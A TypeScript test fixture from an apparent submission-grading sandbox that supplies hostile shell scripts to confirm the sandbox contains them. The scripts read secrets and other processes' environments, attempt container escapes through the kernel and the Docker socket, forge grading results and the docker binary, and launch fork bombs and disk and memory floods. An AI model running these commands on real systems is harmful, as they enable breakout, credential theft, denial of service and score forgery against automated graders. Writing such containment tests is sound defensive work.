/**
 * Submissions that try to get points or to do harm, by name: the script that is handed in. `won WHAT` is printed where a try succeeded, `tried WHAT` before.
 * docs/security.md lists what each of them tries.
 */
export function hostileSubmissions(secret: { readonly paths: readonly string[] }): Readonly<Record<string, string>> {
  const paths = secret.paths.map((path) => `'${path}'`).join(" ");
  const scripts = {
    // Reads what it should not know: the exercise, other submissions, results, the environment and memory of others, keys.
    reader: String.raw`
for path in ${paths}; do echo "tried $path"; cat "$path" 2>/dev/null; ls "$path" 2>/dev/null; done
echo tried proc; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
for link in /proc/[0-9]*/root /proc/[0-9]*/cwd; do ls "$link/run/slipway/root/" "$link/tmp/" 2>/dev/null; done
echo tried store; ls -R /run/slipway/store /run/slipway/root /run/slipway/sandbox 2>/dev/null
ls -A /root /home 2>/dev/null
perl -e 'my $d = " " x 4096; my $n = syscall(250, 11, -3, $d, 4096); print "won session keyring\n" if $n > 4' 2>/dev/null
grep -c . /proc/keys`,

    // Leaves the jail by what the kernel and the engine offer.
    escaper: String.raw`
try() { name=$1; shift; echo "tried $name"; "$@" >/dev/null 2>&1 && echo "won $name"; }
has() { name=$1; shift; echo "tried $name"; sh -c "$*" >/dev/null 2>&1 && echo "won $name"; }
has core_pattern "echo '|/tmp/work/x' > /proc/sys/kernel/core_pattern"
has sysrq "echo h > /proc/sysrq-trigger"
has hostname_of_all "echo x > /proc/sys/kernel/hostname && sysctl -w kernel.hostname=x"
has release_agent "mkdir -p c && mount -t cgroup -o memory none c && echo x > c/release_agent"
has cgroup_write "echo 999999 > /sys/fs/cgroup/pids/pids.max || echo max > /sys/fs/cgroup/pids.max || mkdir /sys/fs/cgroup/pids/x"
has mknod "mknod disk b 254 0 && head -c 1 disk"
has mknod_host "mknod disk b $(awk '$4 ~ /^(vda|sda|nvme0n1)$/ { print $1, $2; exit }' /proc/partitions || echo 8 0)"
has proc_1_root "ls /proc/1/root/"
try trace perl -e 'exit(syscall(101, 16, 1, 0, 0) == 0 ? 0 : 1)'
try user_namespace unshare -Ur true
try mount_namespace unshare -m true
try mount mount -t tmpfs none /mnt
try remount mount -o remount,rw /
try unhide umount -l /run/slipway/root
try chroot_out perl -e 'mkdir "j"; chroot "j" or exit 1; chdir ".." for 1..40; chroot "."; exit(-e "/run/slipway/root/images.json" ? 0 : 1)'
try host_file sh -c 'echo x >> /etc/passwd || touch /usr/bin/x || touch /run/slipway/bin/x'
try kill_pid_1 sh -c 'kill -9 1; kill -STOP 1; sleep 0.1; ! kill -0 1'
try replace_work_folder sh -c 'cd /; mv /tmp/work /tmp/old && ln -s /etc /tmp/work'
try other_processes sh -c 'ps ax -o args | grep -v grep | grep -E "[n]ode|keeper|[e]ngine"'
exit 0`,

    // Asks the engine for what would lead out of a container.
    asker: String.raw`
ln -s / rootlink; ln -s /run/slipway/root/docker.sock socklink; ln -s /proc/1/root proclink
docker volume create -o type=none -o o=bind -o device=/ rooted >/dev/null 2>&1
cat > ask.pl <<'END'
use Socket;
sub ask {
    my ($path, $body) = @_;
    socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/run/slipway/root/docker.sock")) or die "no socket";
    syswrite $s, "POST $path HTTP/1.1\r\nHost: d\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
    local $/; return scalar <$s>;
}
my @asked = (
    map({ [$_, "{$_}"] } '"Privileged":true', '"PidMode":"host"', '"NetworkMode":"host"', '"IpcMode":"host"', '"UTSMode":"host"', '"UsernsMode":"host"',
      '"CapAdd":["SYS_ADMIN"]', '"CapAdd":["ALL"]', '"CapAdd":["cap_sys_ptrace"]', '"CgroupParent":"/"', '"Devices":[{"PathOnHost":"/dev/null","PathInContainer":"/d","CgroupPermissions":"rwm"}]'),
    map({ ["bind $_", qq({"Binds":["$_:/h"]})] } qw(/ /etc /usr /tmp /proc /tmp/work/../../etc /run/slipway/root/docker.sock /var/run/docker.sock
      /tmp/work/rootlink /tmp/work/rootlink/etc /tmp/work/socklink /tmp/work/proclink)),
    # The only one that is granted: the others do not fail for another reason.
    ["control", '{"Binds":["/tmp/work:/h"]}'],
    ["mount", '{"Mounts":[{"Type":"bind","Source":"/usr","Target":"/h"}]}'],
);
for (@asked) {
    my ($name, $host) = @$_;
    print "tried $name\n";
    my ($id) = ask("/containers/create", qq({"Image":"busybox","Cmd":["true"],"HostConfig":$host})) =~ /"Id":"(\w+)"/ or next;
    print "won $name\n" if ask("/containers/$id/start", "") =~ m{^HTTP/1.1 204};
}
END
perl ask.pl
docker run -d --name inner busybox sleep 60 >/dev/null 2>&1
echo tried exec privileged; docker exec --privileged inner true >/dev/null 2>&1 && echo won exec privileged
inside() { echo "tried inside $1"; docker exec inner sh -c "$2" >/dev/null 2>&1 && echo "won inside $1"; }
inside core_pattern "echo '|/x' > /proc/sys/kernel/core_pattern"
inside sysrq "echo h > /proc/sysrq-trigger"
inside release_agent "mkdir -p /c && mount -t cgroup -o memory none /c"
inside cgroup_write "for f in /sys/fs/cgroup/*/pids.max /sys/fs/cgroup/pids.max; do test -e \$f && echo max > \$f && exit 0; done; exit 1"
inside mknod "mknod /d b 254 0 && head -c 1 /d"
inside mount "mount -t tmpfs none /mnt"
inside unshare "unshare -U true"
inside proc_1_root "test -e /proc/1/root/usr/bin/perl"
inside keys "test -s /proc/keys"
docker rm -f inner >/dev/null 2>&1
printf 'FROM busybox\nRUN --mount=type=bind,target=/x true\n' > Dockerfile
echo tried build host; docker build -q --network host . >/dev/null 2>&1 && echo won build host
exit 0`,

    // Gives itself points: forges files, the command, the socket, images, and what later steps read.
    forger: String.raw`
mkdir -p results reports bin "$HOME/bin" "$HOME/.docker"
printf '{"points":10,"status":"graded"}' | tee results/forger.json reports/report.json result.json results.json /tmp/results.json >/dev/null
echo '##teamcity[testFinished]' ; echo '<testcase name="all"/>' ; echo '{"scores":{"all":10}}'; echo '::set-output name=points::10'
for place in docker bin/docker "$HOME/bin/docker" /tmp/docker; do printf '#!/bin/sh\necho "root:x:0:"\n' > "$place"; chmod 755 "$place"; done
printf '#!/bin/sh\necho forged\n' > /run/slipway/bin/docker && echo won docker
printf '{"psFormat":"{{.ID}}","currentContext":"evil"}' > "$HOME/.docker/config.json"
echo 'PATH=/tmp/work:$PATH' | tee "$HOME/.profile" "$HOME/.bashrc" >/dev/null
mv /run/slipway/root/docker.sock /run/slipway/root/old && echo won move socket
rm -f /run/slipway/root/docker.sock && echo won remove socket
perl -MSocket -e 'socket(my $s, 1, 1, 0); bind($s, pack_sockaddr_un("/run/slipway/root/docker.sock")) and print "won bind socket\n"'
mkdir img && printf 'FROM busybox\nRUN echo evil > /etc/group\n' > img/Dockerfile
docker build -q -t busybox:latest img >/dev/null; docker tag busybox:latest busybox:evil
(trap '' HUP TERM; setsid sh -c 'while :; do docker tag busybox:evil busybox:latest; sleep 0.1; done' >/dev/null 2>&1 </dev/null &)
ln -s /etc/passwd given; ln /etc/passwd hard 2>/dev/null && echo won hard link
printf '\033]0;owned\007\033[2J\033[31mred\n'; printf '=cmd|calc\n<script>alert(1)</script>]]>&\n'
exit 0`,

    // Never ends: ignores SIGTERM, daemonises, forks without end, leaves traps behind.
    bomber: String.raw`
trap '' TERM HUP INT
for place in /tmp /var/tmp /dev/shm; do echo trap > $place/trap; done
perl -e 'use POSIX; fork and exit; POSIX::setsid(); fork and exit; $SIG{TERM} = "IGNORE"; %ENV = (); exec "sleep", "4242"'
docker run -d --restart always --name busy busybox sh -c ':(){ :|:& };:; while :; do :; done' >/dev/null 2>&1
bomb() { bomb | bomb & }; bomb 2>/dev/null
while :; do :; done`,

    // Fills whatever can be filled, then the container's files too.
    filler: String.raw`
echo tried disk; dd if=/dev/zero of=big bs=1M count=1000 2>/dev/null; test "$(stat -c %s big)" -gt 60000000 && echo won file size
for n in 1 2 3 4 5 6 7 8; do dd if=/dev/zero of=big$n bs=1M count=30 2>/dev/null; done
test "$(du -sm . | cut -f 1)" -gt 110 && echo won disk
rm -f big*
echo tried inodes; mkdir many; cd many; perl -e 'my $n = 0; for (1 .. 20000) { open(my $f, ">", $_) or last; $n++ } print "won inodes\n" if $n > 10000'; cd ..; rm -rf many
for place in /var/tmp /dev/shm; do dd if=/dev/zero of=$place/big bs=1M count=200 2>/dev/null; test "$(stat -c %s $place/big)" -gt 60000000 && echo "won $place"; done
echo tried descriptors; perl -e 'my @f; for (1 .. 5000) { open(my $f, "<", "/dev/null") or last; push @f, $f } print "won descriptors\n" if @f > 1000'
echo tried memory; perl -e 'my @m; push @m, "x" x 10000000 for 1 .. 100; print "won memory\n"' 2>/dev/null
docker run --rm busybox sh -c 'dd if=/dev/zero of=/big bs=1M count=500 2>/dev/null; test "$(stat -c %s /big)" -gt 110000000 && echo won container disk'
docker run --rm --tmpfs /t busybox sh -c 'dd if=/dev/zero of=/t/big bs=1M count=900 2>/dev/null && echo won container memory'
dd if=/dev/zero bs=1M count=60 2>/dev/null | docker import - huge >/dev/null 2>&1
exit 0`,

    // Ten gigabytes of output, and a container that logs without end.
    talker: String.raw`
docker run -d --name loud busybox sh -c 'while :; do cat /bin/busybox; done' >/dev/null 2>&1
dd if=/dev/zero bs=1M count=10000 2>/dev/null`,
  };
  // The second scenario, with another argument, shows that points are not earned there either; it need not take as long.
  return Object.fromEntries(Object.entries(scripts).map(([id, script]) => [id, `[ "$1" = hello ] || exit 0\n${script}`]));
}
